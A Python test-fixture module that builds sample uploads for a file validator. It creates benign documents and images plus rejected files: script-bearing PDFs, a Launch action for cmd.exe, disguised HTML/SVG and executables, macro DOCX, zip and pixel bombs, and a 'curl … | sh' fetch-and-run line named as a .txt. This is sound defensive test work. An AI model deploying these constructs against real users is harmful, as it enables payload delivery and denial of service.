"""Uploads to inspect, built in code: real small documents of every allowed type, and the
files a validator must refuse (active PDFs, disguised markup and executables, bombs)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import ExifTags, Image

from chalicelib.domain.documents import MB

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
GPS_LATITUDE = ((23, 1), (33, 1), (0, 1))


@dataclass(frozen=True)
class Upload:
    data: bytes
    file_name: str
    declared_type: str


class OneWayStream(io.RawIOBase):
    """What S3 hands over: bytes that can be read once, in order, and not sought."""

    def __init__(self, data: bytes) -> None:
        self._data = io.BytesIO(data)
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return False

    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
        chunk = self._data.read(len(buffer))
        buffer[: len(chunk)] = chunk
        self.read_bytes += len(chunk)
        return len(chunk)


# --- PDF --------------------------------------------------------------------------------------


def _pdf(build: str = "plain") -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Contrato de honorários"})
    if build == "goto":  # an ordinary OpenAction: open on the first page, fit to the window
        writer._root_object[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    elif build == "open_action_js":
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    elif build == "names_js":  # a document-level script, run when the document opens
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")}
        )
        tree = DictionaryObject(
            {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(action)])}
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    elif build == "embedded":
        writer.add_attachment("invoice.exe", b"MZ\x90\x00" + b"\x00" * 60)
    elif build == "launch_annotation":
        launch = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]
                ),
                NameObject("/A"): launch,
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    elif build == "page_aa":
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
        )
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf() -> Upload:
    return Upload(_pdf(), "contrato.pdf", "application/pdf")


def pdf_opening_on_first_page() -> Upload:
    return Upload(_pdf("goto"), "procuracao.pdf", "application/pdf")


def pdf_with_javascript_open_action() -> Upload:
    return Upload(_pdf("open_action_js"), "boleto.pdf", "application/pdf")


def pdf_with_javascript_names() -> Upload:
    return Upload(_pdf("names_js"), "boleto.pdf", "application/pdf")


def pdf_with_embedded_file() -> Upload:
    return Upload(_pdf("embedded"), "fatura.pdf", "application/pdf")


def pdf_with_launch_annotation() -> Upload:
    return Upload(_pdf("launch_annotation"), "fatura.pdf", "application/pdf")


def pdf_with_page_additional_action() -> Upload:
    return Upload(_pdf("page_aa"), "fatura.pdf", "application/pdf")


def broken_pdf() -> Upload:
    return Upload(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n%%EOF\n", "contrato.pdf", "application/pdf")


def large_pdf_chunks(target_bytes: int) -> Iterator[bytes]:
    """A valid PDF of about `target_bytes`: one page whose content stream is a long run of
    incompressible-looking comments, written piece by piece (nothing held whole)."""
    filler = b"".join(
        b"%% line %08d of filler so the page is large, as a scanned contract is\n" % i for i in range(1000)
    )
    repeats = max(1, target_bytes // len(filler))
    length = len(filler) * repeats
    offsets: list[int] = []
    written = 0

    def piece(data: bytes) -> bytes:
        nonlocal written
        written += len(data)
        return data

    yield piece(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for body in (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    ):
        offsets.append(written)
        yield piece(b"%d 0 obj\n%s\nendobj\n" % (len(offsets), body))
    offsets.append(written)
    yield piece(b"4 0 obj\n<< /Length %d >>\nstream\n" % length)
    for _ in range(repeats):
        yield piece(filler)
    yield piece(b"\nendstream\nendobj\n")
    xref = written
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    yield piece(b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(offsets) + 1, table))
    yield piece(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref))


# --- disguised and foreign ------------------------------------------------------------------------

HTML = b"<!DOCTYPE html>\n<html><head><title>Boleto</title></head><body><script>location='x'</script></body></html>\n"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><rect width='10' height='10'/></svg>\n"
)
EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7
    + b"PE\x00\x00\x4c\x01"
    + b"\x00" * 200
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"


def html_named_pdf() -> Upload:
    return Upload(HTML, "boleto.pdf", "application/pdf")


def svg() -> Upload:
    return Upload(SVG, "logo.svg", "image/svg+xml")


def svg_named_png() -> Upload:
    return Upload(SVG, "foto.png", "image/png")


def executable_named_pdf() -> Upload:
    return Upload(EXECUTABLE, "extrato.pdf", "application/pdf")


def executable() -> Upload:
    return Upload(EXECUTABLE, "setup.exe", "application/x-msdownload")


def shell_script() -> Upload:
    return Upload(SHELL_SCRIPT, "notas.txt", "text/plain")


def text_named_pdf() -> Upload:
    return Upload("Isto não é um PDF.\n".encode(), "documento.pdf", "application/pdf")


# --- office documents --------------------------------------------------------------------------


def _content_types(main: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/main.xml" ContentType="{main}"/>{extra}</Types>'
    ).encode()


def _zip(members: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(members):
            kind = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=kind)
    return out.getvalue()


_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
)


def docx() -> Upload:
    document = "<w:document><w:body><w:p><w:r><w:t>Procuração</w:t></w:r></w:p></w:body></w:document>"
    members = [
        ("[Content_Types].xml", _content_types(DOCX_MAIN)),
        ("_rels/.rels", _RELS),
        ("word/document.xml", document.encode()),
    ]
    return Upload(
        _zip(members), "procuracao.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def xlsx() -> Upload:
    members = [
        ("[Content_Types].xml", _content_types(XLSX_MAIN)),
        ("_rels/.rels", _RELS),
        ("xl/workbook.xml", b"<workbook><sheets/></workbook>"),
    ]
    return Upload(_zip(members), "custas.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def odt() -> Upload:
    members = [
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office:document-content><office:body/></office:document-content>"),
        ("META-INF/manifest.xml", b"<manifest:manifest/>"),
    ]
    return Upload(_zip(members, stored_first=True), "peticao.odt", "application/vnd.oasis.opendocument.text")


def docm_named_docx() -> Upload:
    members = [
        ("[Content_Types].xml", _content_types(DOCM_MAIN)),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 100),
    ]
    return Upload(
        _zip(members), "contrato.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def docx_with_vba_project() -> Upload:
    members = [
        ("[Content_Types].xml", _content_types(DOCX_MAIN)),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 100),
    ]
    return Upload(
        _zip(members), "contrato.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def zip_bomb_docx(unpacked_bytes: int = 64 * MB) -> Upload:
    """A DOCX whose one extra member is `unpacked_bytes` of zeros: about 1,000 to 1 packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(DOCX_MAIN))
        archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open("word/media/padding.bin", "w") as member:
            block = b"\x00" * MB
            for _ in range(unpacked_bytes // MB):
                member.write(block)
    return Upload(
        out.getvalue(), "laudo.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )


def plain_zip() -> Upload:
    return Upload(_zip([("a.txt", b"hello")]), "arquivos.zip", "application/zip")


# --- images ---------------------------------------------------------------------------------------


def _gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 15 Pro"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "S",
        ExifTags.GPS.GPSLatitude: (23.0, 33.0, 0.0),
        ExifTags.GPS.GPSLongitudeRef: "W",
        ExifTags.GPS.GPSLongitude: (46.0, 38.0, 0.0),
    }
    return exif


def _picture(width: int = 64, height: int = 48) -> Image.Image:
    image = Image.new("RGB", (width, height), (200, 180, 160))
    for x in range(width // 2):  # the left half darker: orientation can be told from the pixels
        for y in range(height):
            image.putpixel((x, y), (20, 30, 40))
    return image


def jpeg_with_gps() -> Upload:
    """64x48 as stored, orientation 6 (shown rotated 90°: 48x64), GPS and the device in EXIF."""
    out = io.BytesIO()
    _picture().save(out, format="JPEG", quality=90, exif=_gps_exif(orientation=6))
    return Upload(out.getvalue(), "IMG_0001.jpg", "image/jpeg")


def png() -> Upload:
    out = io.BytesIO()
    _picture().save(out, format="PNG", exif=_gps_exif())
    return Upload(out.getvalue(), "print.png", "image/png")


def heic() -> Upload:
    from pillow_heif import register_heif_opener

    register_heif_opener()
    out = io.BytesIO()
    _picture().save(out, format="HEIF", quality=80, exif=_gps_exif())
    return Upload(out.getvalue(), "IMG_0002.HEIC", "image/heic")


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width: int = 10_000, height: int = 6_000) -> Upload:
    """A 60-megapixel grey PNG, a few dozen KB on disk (every row is zeros), written by hand
    so building it holds one row, not the picture."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + one byte per pixel
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")
    return Upload(data, "planta.png", "image/png")


def truncated_jpeg() -> Upload:
    whole = jpeg_with_gps().data
    return Upload(whole[: len(whole) // 2], "foto.jpg", "image/jpeg")


# --- text, empty, too big -----------------------------------------------------------------------


def text() -> Upload:
    body = "Olá, Dra. Conceição!\nSegue a relação de documentos: certidão, procuração e ação nº 123 — São Paulo.\n"
    return Upload(body.encode(), "recado.txt", "text/plain")


def empty() -> Upload:
    return Upload(b"", "vazio.pdf", "application/pdf")


def over_the_limit(limit: int) -> Upload:
    """A valid PDF one byte over `limit` (the tail is a comment after %%EOF)."""
    head = _pdf()
    return Upload(head + b"%" * (limit + 1 - len(head)), "grande.pdf", "application/pdf")
